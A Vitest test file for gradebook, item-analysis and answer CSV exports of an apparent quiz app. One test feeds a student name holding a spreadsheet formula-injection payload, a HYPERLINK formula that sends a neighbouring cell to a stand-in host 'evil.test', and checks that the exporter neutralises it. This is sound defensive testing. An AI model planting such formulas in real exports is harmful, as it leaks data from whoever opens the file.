import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { analyticsCsv, answersCsv, gradebookCsv } from "./csv";

describe("CSV exports", () => {
  it("round-trips names with accents, commas and quotes, and starts with a UTF-8 byte-order mark", () => {
    const csv = gradebookCsv(
      [
        {
          studentId: "1",
          name: "Kasim Cömert",
          email: "kc@x.test",
          enrolled: true,
          score: 0.875,
          attempts: 2,
          finishedAttempts: 1,
          timeMs: 95_400,
          lastActivity: new Date("2026-12-01T03:05:00Z"),
          late: false,
        },
        {
          studentId: "2",
          name: 'Dana "DJ" Jaxybekova, Jr.',
          email: "dj@x.test",
          enrolled: false,
          score: null,
          attempts: 0,
          finishedAttempts: 0,
          timeMs: 0,
          lastActivity: null,
          late: true,
        },
      ],
      "Asia/Almaty",
      new Map([["1", { accepted: 2, "marked-wrong": 1 }]]),
    );
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      {
        Student: "Kasim Cömert",
        Email: "kc@x.test",
        "In class": "yes",
        "Score (%)": "87.5",
        Attempts: "2",
        "Finished attempts": "1",
        "Time spent (s)": "95",
        "Last activity (Asia/Almaty)": "2026-12-01 08:05",
        Late: "no",
        "Answers decided by the teacher": "2 accepted; 1 marked wrong",
      },
      {
        Student: 'Dana "DJ" Jaxybekova, Jr.',
        Email: "dj@x.test",
        "In class": "no (removed)",
        "Score (%)": "",
        Attempts: "0",
        "Finished attempts": "0",
        "Time spent (s)": "0",
        "Last activity (Asia/Almaty)": "",
        Late: "yes",
        "Answers decided by the teacher": "",
      },
    ]);
  });

  it("defuses cells a spreadsheet would run as formulas", () => {
    const csv = gradebookCsv(
      [
        {
          studentId: "1",
          name: '=HYPERLINK("https://evil.test/?"&B2,"x")',
          email: "e@x.test",
          enrolled: true,
          score: null,
          attempts: 0,
          finishedAttempts: 0,
          timeMs: 0,
          lastActivity: null,
          late: false,
        },
      ],
      "UTC",
      new Map(),
    );
    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(row!.Student).toBe(`'=HYPERLINK("https://evil.test/?"&B2,"x")`);
  });

  it("keeps a passage with line breaks in one cell, with the item analysis beside it", () => {
    const csv = analyticsCsv([
      {
        question: "Who?",
        rightAnswer: "Tokayev",
        answered: 4,
        share: 0.25,
        wrongAnswers: [{ answer: "Nazarbayev", count: 3 }],
        discrimination: -0.126,
        medianTimeMs: 8250,
        options: [
          { option: "Tokayev", count: 1, correct: true },
          { option: "Nazarbayev", count: 3, correct: false },
        ],
        acceptedAnswers: ["Tokaev", "K. Tokayev"],
        flags: ["Negative discrimination"],
        passage: "Line one,\nline two",
        article: "Kyiv Independent",
      },
    ]);
    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      "Most common wrong answers": "Nazarbayev (3)",
      "Source passage": "Line one,\nline two",
      "Correct (%)": "25",
      Discrimination: "-0.13",
      "Median time (s)": "8.3",
      "Answers per option": "Tokayev (right): 1; Nazarbayev: 3",
      Flags: "Negative discrimination",
      "Answers accepted by the teacher": "Tokaev; K. Tokayev",
    });
  });

  it("lists every answer with who decided it and what the automatic grading said", () => {
    const common = { student: "Aigerim", email: "a@x.test", attempt: 1, rightAnswer: "Taldykorgan" };
    const csv = answersCsv(
      [
        {
          ...common,
          position: 1,
          question: "Where was the statue toppled?",
          answer: "Taldy-Korgan",
          verdict: "correct",
          teacherMark: "marked-right",
          graderVerdict: "close",
          timeMs: 6400,
          answeredAt: new Date("2026-12-01T03:05:00Z"),
        },
        {
          ...common,
          position: 2,
          question: "Which city?",
          answer: "-1+2",
          verdict: "incorrect",
          teacherMark: null,
          graderVerdict: null,
          timeMs: 1000,
          answeredAt: new Date("2026-12-01T03:06:00Z"),
        },
        {
          ...common,
          position: 3,
          question: "Who?",
          answer: null,
          verdict: null,
          teacherMark: null,
          graderVerdict: null,
          timeMs: null,
          answeredAt: null,
        },
      ],
      "Asia/Almaty",
    );
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.Answer, r.Result, r["Decided by"], r["Automatic grading said"]])).toEqual([
      ["Taldy-Korgan", "Correct", "Correct: marked right by the teacher", "Close (scored wrong)"],
      ["'-1+2", "Wrong", "Automatic grading", ""],
      ["", "Not answered", "", ""],
    ]);
    expect(rows[0]).toMatchObject({ "Time (s)": "6.4", "Answered at (Asia/Almaty)": "2026-12-01 08:05" });
  });
});
